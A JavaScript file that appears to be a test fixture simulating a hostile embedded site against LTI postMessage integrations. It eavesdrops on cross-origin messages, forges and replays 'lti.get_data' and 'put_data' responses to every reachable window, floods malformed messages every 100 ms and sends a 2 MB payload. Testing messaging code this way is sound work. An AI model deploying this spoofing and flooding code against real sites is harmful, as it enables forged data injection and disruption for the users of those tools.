// What each page of the hostile site does: writes down what it hears, and sends forgeries to every window it can reach.
// SECRET stands before it.

const heard = [], ids = [];
let sent = 0;
const prefixes = ["lti.", "org.imsglobal.lti."];
const kinds = prefixes.flatMap(one => ["capabilities", "put_data", "get_data"].map(two => one + two));
const supported_messages = [{ subject: "lti.put_data", frame: "evil" }, { subject: "lti.get_data" }];
const lure = { value: SECRET, supported_messages };
const put = (target, data) => { try { target.postMessage(data, "*"); sent += 1 } catch { /* Not there. */ } };
const answer = (target, { subject, message_id, key }) => {
  for (const more of [lure, { ...lure, error: { code: "error", message: "no" } }])
    put(target, { subject: `${subject}.response`, message_id, key, ...more });
};
function around() {
  const found = new Set();
  const walk = (from, depth) => {
    if (!from || depth > 3 || from === self) return;
    found.add(from);
    for (let at = 0; at < from.length; at += 1) walk(from[at], depth + 1);
  };
  for (const start of [top, parent, opener]) walk(start, 0);
  for (let at = 0; at < self.length; at += 1) walk(self[at], 0);
  if (window.prey) found.add(window.prey);
  return found;
}
addEventListener("message", event => {
  if (event.data?.leak) {
    ids.push(event.data.leak);
    for (const target of around()) answer(target, event.data.leak);
    return;
  }
  if (event.origin === location.origin) return;
  heard.push(JSON.stringify([event.origin, event.data]));
  if (event.data?.message_id) {
    ids.push(event.data);
    for (const target of [event.source, ...around()]) answer(target, event.data);
  }
});
const odd = [null, 7, true, "lti.get_data.response", [], [[]], {}, new Map([["subject", "lti.get_data.response"]]),
  new ArrayBuffer(8), new Date(), { subject: null, message_id: {} }, { message_id: ["x"], subject: ["lti.get_data"] }];
function flood() {
  const guesses = [undefined, "", null, 0, "x", crypto.randomUUID(), ...ids.slice(-3).map(one => one.message_id)];
  for (const target of around()) {
    for (const subject of kinds)
      for (const message_id of guesses)
        put(target, { subject: `${subject}.response`, message_id, key: ids.at(-1)?.key ?? "x", ...lure });
    for (const one of ids.slice(-20)) answer(target, one); // Replays.
    for (const one of odd) put(target, one);
  }
}
setInterval(flood, 100);
setTimeout(() => {
  for (const target of around()) put(target, { subject: "lti.get_data.response", value: "x".repeat(2e6) });
}, 300);
parent.postMessage("evil is ready", "*");
